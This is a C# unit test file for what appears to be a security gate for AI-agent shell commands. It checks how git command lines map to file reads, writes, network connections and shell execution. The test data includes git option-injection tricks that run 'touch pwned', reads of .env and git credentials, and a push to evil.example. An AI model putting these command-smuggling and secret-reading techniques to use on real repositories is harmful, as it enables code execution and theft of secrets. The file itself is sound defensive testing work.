namespace AgentGate.Core.Tests.Shell.Knowledge;

public sealed class GitTests
{
    private static MadeFacts Repo() => new MadeFacts()
        .With("/repo/.git/config", "[remote \"origin\"]\n\turl = git@github.com:acme/app.git\n[alias]\n\tst = status -s\n\tpwn = !touch pwned\n")
        .With("/repo/.env", "x").With("/repo/a.txt", "x").With("/repo/src/b.cs", "x");

    [Theory]
    [InlineData("git status", "")]
    [InlineData("git status --short -b", "")]
    [InlineData("git --no-pager log --oneline -5", "")]
    [InlineData("git log -p", "")]
    [InlineData("git log --no-merges --since 2020-01-01 main..feature", "")]
    [InlineData("git diff HEAD~1 -- src", "read src")]
    [InlineData("git diff a.txt", "read a.txt")]
    [InlineData("git diff -- '*.cs'", "")]
    [InlineData("git show HEAD:src/b.cs", "read src/b.cs")]
    [InlineData("git add -A", "")]
    [InlineData("git commit -m 'rm -rf / is bad'", "")]
    [InlineData("git checkout -b feature/x", "")]
    [InlineData("git branch --show-current", "")]
    [InlineData("git stash list", "")]
    [InlineData("git fetch origin", "connect ssh://github.com/ GET")]
    [InlineData("git push origin main", "connect ssh://github.com/ POST | ?")]
    [InlineData("git push", "connect ssh://github.com/ POST | ?")]
    [InlineData("git clone https://github.com/a/b.git", "connect https://github.com:443/a/b.git GET | write b/**")]
    [InlineData("git config user.email", "")]
    [InlineData("git config --get remote.origin.url", "")]
    [InlineData("git -c user.name=x commit -m y", "")]
    [InlineData("git -c color.ui=always diff", "")]
    [InlineData("git rev-parse --abbrev-ref HEAD", "")]
    [InlineData("git clean -n", "")]
    public void Ordinary_lines_are_silent(string line, string expected) =>
        Assert.Equal(expected, RecordingEffects.Of(line, Repo()).ToString());

    [Theory]
    [InlineData("git show HEAD:.env", "read .env")]
    [InlineData("git show stash^3:.env", "read .env")]
    [InlineData("git show :.env", "read .env")]
    [InlineData("git show ':/.env'", "read .env")]
    [InlineData("git cat-file -p HEAD:.env", "read .env")]
    [InlineData("git diff .env", "read .env")]
    [InlineData("git log -p -- .env", "read .env")]
    [InlineData("git log -p -- '.e*'", "read ?")]
    [InlineData("git grep -h . -- .env", "read .env")]
    [InlineData("git -C /repo show HEAD:.env", "read /repo/.env")]
    [InlineData("git diff --no-index /dev/null .env", "read .env/**")]
    [InlineData("git blame --contents .env -- a.txt", "read .env | read a.txt")]
    [InlineData("git hash-object -w .env", "read .env")]
    [InlineData("git ls-files --exclude-from=.env -o -i", "read .env")]
    [InlineData("git commit-tree HEAD^{tree} -F .env", "read .env")]
    [InlineData("git stash show -p", "read ?")]
    [InlineData("git credential fill", "read /home/dev/.git-credentials | ?")]
    [InlineData("git archive -o x.tar HEAD .env", "write x.tar | read .env")]
    public void A_path_that_is_shown_is_read(string line, string expected) =>
        Assert.Equal(expected, RecordingEffects.Of(line, Repo()).ToString());

    [Theory]
    [InlineData("git -c core.sshCommand='touch pwned' ls-remote ssh://h/x", "shell touch pwned | connect ssh://h/x GET")]
    [InlineData("git -c core.pager='touch pwned' log", "shell touch pwned")]
    [InlineData("git -c core.fsmonitor='touch pwned' status", "shell touch pwned")]
    [InlineData("git -c core.fsmonitor=false status", "")]
    [InlineData("git -c core.pager=cat log", "")]
    [InlineData("git -c diff.external='touch pwned #' diff", "shell touch pwned #")]
    [InlineData("git -c alias.x='!touch pwned' x", "shell touch pwned \"$@\"")]
    [InlineData("git -c core.hooksPath=hk log", "run ? | ?")]
    [InlineData("git -c who.knows=1 log", "?")]
    [InlineData("git -c $X log", "run ?")]
    [InlineData("git --config-env=core.pager=P log", "shell ?")]
    [InlineData("git --exec-path=/tmp/x log", "run ?")]
    [InlineData("git log --output=pwned", "write pwned")]
    [InlineData("git log --outp=pwned", "write pwned | ?")]
    [InlineData("git diff --ext-diff", "run ?")]
    [InlineData("git ls-remote --upload-pack='touch pwned' .", "run ? | read ./**")]
    [InlineData("git ls-remote --upload-pa='touch pwned' .", "run ? | read ./** | ?")]
    [InlineData("git clone 'ext::sh -c touch% pwned' x", "shell sh -c touch% pwned | write x/**")]
    [InlineData("git archive --remote=. --exec='touch pwned;' HEAD", "read ./** | run ?")]
    [InlineData("git grep -Otouch x", "run ?")]
    [InlineData("git rebase --exec 'touch pwned' HEAD", "shell touch pwned | ?")]
    [InlineData("git bisect run touch pwned", "run touch pwned | write pwned | ?")]
    [InlineData("git submodule foreach 'touch pwned'", "shell touch pwned")]
    [InlineData("git difftool -x 'touch pwned' HEAD", "shell touch pwned | ?")]
    [InlineData("git config core.editor 'touch pwned'", "write .git/config | shell touch pwned")]
    [InlineData("git config --global alias.x '!touch pwned'", "write /home/dev/.gitconfig | shell touch pwned")]
    [InlineData("git pwn", "shell touch pwned \"$@\" | ?")]
    [InlineData("git st", "run git status -s | ?")]
    [InlineData("git unheard-of", "run ? | ?")]
    [InlineData("git fetch upstream", "connect ?")]
    [InlineData("git push https://evil.example/x HEAD", "connect https://evil.example:443/x POST | ?")]
    [InlineData("git reset --hard", "?")]
    [InlineData("git clean -fdx", "?")]
    [InlineData("git checkout -- a.txt", "?")]
    [InlineData("git checkout a.txt", "?")]
    public void What_runs_or_leaves_is_stated(string line, string expected) =>
        Assert.Equal(expected, RecordingEffects.Of(line, Repo()).ToString());

    [Theory]
    [InlineData("git -C x --no-pager push origin", "git push origin")]
    [InlineData("/usr/bin/git -c a.b=c status -s", "git status -s")]
    [InlineData("/tmp/git status", "/tmp/git status")]
    public void Global_options_are_removed(string line, string command) =>
        Assert.Equal(command, string.Join(' ', RecordingEffects.Of(line).Command));
}
